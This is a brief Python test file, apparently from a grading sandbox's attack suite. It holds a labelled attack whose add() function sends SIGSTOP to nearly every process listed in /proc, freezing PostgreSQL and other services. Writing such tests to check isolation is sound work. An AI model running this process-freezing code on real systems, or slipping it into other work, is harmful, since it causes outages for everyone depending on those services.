# attack: stops PostgreSQL, so that it answers nobody
# door: postgres
# services: postgres
# verdict: time_limit or wrong_answer
import os
import signal

from sqlalchemy import create_engine, text

engine = create_engine(os.environ["DATABASE_URL"])
with engine.begin() as connection:
    connection.execute(text("CREATE TABLE IF NOT EXISTS people (name text)"))


def store(name):
    with engine.begin() as connection:
        connection.execute(text("INSERT INTO people VALUES (:name)"), {"name": name})


def add(name):
    store(name)
    for found in os.listdir("/proc"):
        if found.isdigit() and int(found) not in (1, os.getpid(), os.getppid()):
            try:
                os.kill(int(found), signal.SIGSTOP)
            except OSError:
                pass
